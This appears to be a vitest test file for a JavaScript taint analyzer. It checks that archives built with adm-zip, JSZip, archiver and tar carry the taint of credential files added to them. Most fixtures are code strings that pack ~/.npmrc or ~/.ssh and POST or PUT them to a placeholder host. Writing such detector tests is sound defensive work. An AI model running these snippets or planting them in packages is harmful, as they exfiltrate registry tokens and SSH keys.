// Archive libraries (src/analyzers/js/archives.ts): an archive carries the taint of what was put
// in it, by path (a credential file or folder added is read) or as data.
import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

const HEAD = "const fs = require('fs'); const os = require('os'); const path = require('path');\nconst U = 'https://t.example.invalid/x';\n";

async function kindsOf(code: string): Promise<string[]> {
  return [...new Set(flowSummary(await analyze({ "index.js": HEAD + code })).map((f) => f.split(" -> ")[0]!))].sort();
}

describe("archives carry what was put in them", () => {
  it.each([
    ["adm-zip addLocalFile + toBuffer", "const Z = require('adm-zip'); const z = new Z(); z.addLocalFile(path.join(os.homedir(), '.npmrc'));\nfetch(U, { method: 'POST', body: z.toBuffer() });", ["registry-token"]],
    ["adm-zip addLocalFolder of ~/.ssh", "const Z = require('adm-zip'); const z = new Z(); z.addLocalFolder(os.homedir() + '/.ssh');\nfetch(U, { method: 'POST', body: z.toBuffer() });", ["ssh-key"]],
    ["adm-zip addFile(name, data)", "const Z = require('adm-zip'); const z = new Z(); z.addFile('rc', fs.readFileSync(os.homedir() + '/.npmrc'));\nfetch(U, { method: 'POST', body: z.toBuffer() });", ["registry-token"]],
    ["adm-zip writeZip, the file read back", "const Z = require('adm-zip'); const z = new Z(); z.addLocalFile(os.homedir() + '/.npmrc'); z.writeZip('/tmp/o.zip');\nfetch(U, { method: 'POST', body: fs.readFileSync('/tmp/o.zip') });", ["registry-token"]],
    ["JSZip file(name, data) + generateAsync", "const J = require('jszip'); const z = new J(); z.file('rc', fs.readFileSync(os.homedir() + '/.npmrc'));\nz.generateAsync({ type: 'nodebuffer' }).then((b) => fetch(U, { method: 'POST', body: b }));", ["registry-token"]],
    ["JSZip through folder()", "const J = require('jszip'); const z = new J(); z.folder('a').file('rc', fs.readFileSync(os.homedir() + '/.npmrc'));\nz.generateAsync().then((b) => fetch(U, { method: 'POST', body: b }));", ["registry-token"]],
    ["archiver directory + data events", "const a = require('archiver')('zip'); a.directory(os.homedir() + '/.ssh', false); a.finalize();\nconst c = []; a.on('data', (d) => c.push(d)); a.on('end', () => fetch(U, { method: 'POST', body: Buffer.concat(c) }));", ["ssh-key"]],
    ["archiver glob with a cwd, piped", "const a = require('archiver').create('zip'); a.glob('.ssh', { cwd: os.homedir() });\na.pipe(require('https').request(U, { method: 'PUT' }));", ["ssh-key"]],
    ["tar.c({ cwd }, paths) streamed", "const tar = require('tar'); const s = tar.c({ gzip: true, cwd: os.homedir() }, ['.ssh']);\ns.pipe(require('https').request(U, { method: 'PUT' }));", ["ssh-key"]],
    ["tar.c({ file }) read back", "const tar = require('tar'); tar.c({ file: '/tmp/k.tgz', cwd: os.homedir() }, ['.ssh']);\nfetch(U, { method: 'POST', body: fs.readFileSync('/tmp/k.tgz') });", ["ssh-key"]],
  ])("%s", async (_name, code, kinds) => {
    expect(await kindsOf(code)).toEqual(kinds);
  });

  it.each([
    ["a project folder", "const Z = require('adm-zip'); const z = new Z(); z.addLocalFolder(path.join(process.cwd(), 'dist'));\nfetch(U, { method: 'POST', body: z.toBuffer() });"],
    ["non-secret data", "const J = require('jszip'); const z = new J(); z.file('v.json', JSON.stringify({ v: 1 }));\nz.generateAsync().then((b) => fetch(U, { method: 'POST', body: b }));"],
    ["the package's own files", "const tar = require('tar'); tar.c({ cwd: __dirname }, ['lib']).pipe(require('https').request(U, { method: 'PUT' }));"],
    ["one archive's credential is not in another", "const Z = require('adm-zip'); const a = new Z(); const b = new Z(); a.addLocalFile(os.homedir() + '/.npmrc');\nfetch(U, { method: 'POST', body: b.toBuffer() });"],
  ])("nothing from %s", async (_name, code) => {
    expect(await kindsOf(code)).toEqual([]);
  });
});
